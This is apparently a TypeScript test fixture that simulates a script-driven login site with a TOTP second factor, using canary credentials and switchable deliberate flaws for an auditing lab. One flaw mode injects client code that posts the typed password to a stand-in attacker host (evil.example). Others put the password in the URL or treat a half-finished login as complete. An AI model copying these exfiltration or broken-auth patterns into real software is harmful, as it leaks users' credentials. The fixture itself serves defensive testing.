/** A login that only a script can use: an empty page, a program that draws it and speaks JSON, and a code on a view of its own. */
import { randomBytes } from 'node:crypto';
import { redirect, type Answer, type Site, type Visit } from '../../../src/lab/site.ts';
import type { Clock } from '../../../src/login/clock.ts';
import { codeOfStep, readTotpSecret } from '../../../src/login/totp.ts';

export const DRAWN_HOST = 'app.example.test';
export const DRAWN_USER = {
  username: 'auditor',
  password: 'Kanarie wachtwoord+95',
  totp: 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP',
};

export interface DrawnState {
  readonly factor: boolean;
  /** `pending-is-in`: the password is enough. `by-address`: the script sends the password with GET. `elsewhere`: to another origin. */
  readonly broken?: 'pending-is-in' | 'by-address' | 'elsewhere';
  /** What the server was sent, for who looks for secrets. */
  readonly received?: string[];
}

const totp = readTotpSecret(DRAWN_USER.totp);

export function drawnSite(state: DrawnState): (clock: Clock) => Site {
  return (clock) => {
    const sessions = new Map<string, 'pending' | 'full'>();
    let lastStep = 0;
    const json = (status: number, value: object, cookie?: string): Answer => ({
      status,
      headers: [
        ['Content-Type', 'application/json'],
        ...(cookie === undefined ? [] : [['Set-Cookie', `sid=${cookie}; Path=/; Secure; HttpOnly`] as const]),
      ],
      body: JSON.stringify(value),
    });
    const begin = (stage: 'pending' | 'full') => {
      const id = randomBytes(12).toString('hex');
      sessions.set(id, stage);
      return id;
    };
    const judge = (code: string) => {
      const now = Math.floor(clock.now() / 30_000);
      const step = [now - 1, now, now + 1].find((each) => codeOfStep(totp, each) === code && each > lastStep);
      lastStep = step ?? lastStep;
      return step !== undefined;
    };
    return (visit: Visit) => {
      state.received?.push(`${visit.method} ${visit.path}?${visit.query.toString()} ${visit.body}`);
      const stage = sessions.get(visit.cookie('sid') ?? '');
      const inside = stage === 'full' || (stage === 'pending' && state.broken === 'pending-is-in');
      const given = visit.body.startsWith('{') ? (JSON.parse(visit.body) as Record<string, string>) : {};
      switch (`${visit.method} ${visit.path}`) {
        case 'GET /':
          return redirect('/login', 302);
        case 'GET /login':
        case 'GET /inbox':
          return { status: 200, headers: [['Content-Type', 'text/html']], body: SHELL };
        case 'GET /app.js':
          return { status: 200, headers: [['Content-Type', 'text/javascript']], body: program(state) };
        case 'GET /api/me':
          return inside ? json(200, { mails: ['Invoice of May', 'Minutes of the meeting'] }) : json(401, {});
        case 'POST /api/login':
          if (given['user'] !== DRAWN_USER.username || given['pass'] !== DRAWN_USER.password) return json(401, {});
          return json(200, { code: state.factor }, begin(state.factor ? 'pending' : 'full'));
        case 'POST /api/code':
          if (stage !== 'pending' || !judge(given['code'] ?? '')) return json(401, {});
          return json(200, {}, begin('full'));
        case 'POST /api/logout':
          sessions.delete(visit.cookie('sid') ?? '');
          return json(200, {});
        case 'GET /logout':
          sessions.delete(visit.cookie('sid') ?? '');
          return redirect('/login', 302);
        default:
          return json(404, {});
      }
    };
  };
}

const SHELL =
  '<!doctype html><html><head><title>App</title></head><body><main></main><script src="/app.js"></script></body></html>';

function program({ broken }: DrawnState): string {
  const sends = {
    'by-address': 'location.href = "/login?pass=" + encodeURIComponent(f.pass.value)',
    elsewhere: 'fetch("https://evil.example/take", { method: "POST", body: f.pass.value })',
    'pending-is-in': '',
  };
  return `
const main = document.querySelector('main');
const ask = (path, body) => fetch(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
function drawLogin(said) {
  main.innerHTML = '<p>' + said + '</p><form><label>Name <input name="user"></label><label>Password <input name="pass" type="password"></label><button>Log in</button></form>';
  main.querySelector('form').onsubmit = async (event) => {
    event.preventDefault();
    const f = event.target;
    ${broken === undefined ? '' : sends[broken]};
    const answer = await ask('/api/login', { user: f.user.value, pass: f.pass.value });
    if (!answer.ok) return drawLogin('That was not right.');
    if ((await answer.json()).code) drawCode(''); else location.href = '/inbox';
  };
}
function drawCode(said) {
  main.innerHTML = '<p>' + said + '</p><form><label>Verification code <input name="otp" autocomplete="one-time-code"></label><button>Check</button></form>';
  main.querySelector('form').onsubmit = async (event) => {
    event.preventDefault();
    const answer = await ask('/api/code', { code: event.target.otp.value });
    if (answer.ok) location.href = '/inbox'; else drawCode('That was not right.');
  };
}
setTimeout(async () => {
  if (location.pathname === '/login') return drawLogin('');
  const answer = await fetch('/api/me');
  if (!answer.ok) return void (location.href = '/login');
  main.innerHTML = '<h1>Inbox of the auditor</h1><ul>' + (await answer.json()).mails.map((mail) => '<li>' + mail + '</li>').join('') + '</ul>';
}, 50);`;
}
